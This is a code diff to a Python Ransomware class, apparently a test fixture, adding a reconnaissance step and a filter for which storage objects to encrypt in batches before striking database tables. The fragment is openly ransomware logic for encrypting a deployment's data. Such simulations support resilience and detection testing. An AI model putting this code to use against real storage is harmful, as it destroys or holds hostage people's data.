@@ -21,8 +21,10 @@ from fixtures.damage import (
     Overwritten,
     bound,
     listed,
+    looking_first,
     overwrite,
     rewritable,
+    strikable,
     user_tables,
     writable_columns,
 )
@@ -73,6 +75,7 @@ class Ransomware:
         """
         self._mark, self._encrypted, self._tables = secrets.token_bytes(MARK_BYTES), Keys(), []
         access = deployment.client_access()
+        looking_first(deployment)()
         self._strike_objects(access.objects)
         self._strike_tables(access)
 
@@ -82,7 +85,7 @@ class Ransomware:
         def encrypt(name: str) -> int | None:
             return _encrypt(client, store.bucket, name, key=key, mark=self._mark)
 
-        found = Keys(listed(store))
+        found = Keys(strikable(store))
         self._listed, names = len(found), iter(found)
         with concurrent.futures.ThreadPoolExecutor(WORKERS) as pool:
             while batch := list(itertools.islice(names, BATCH)):
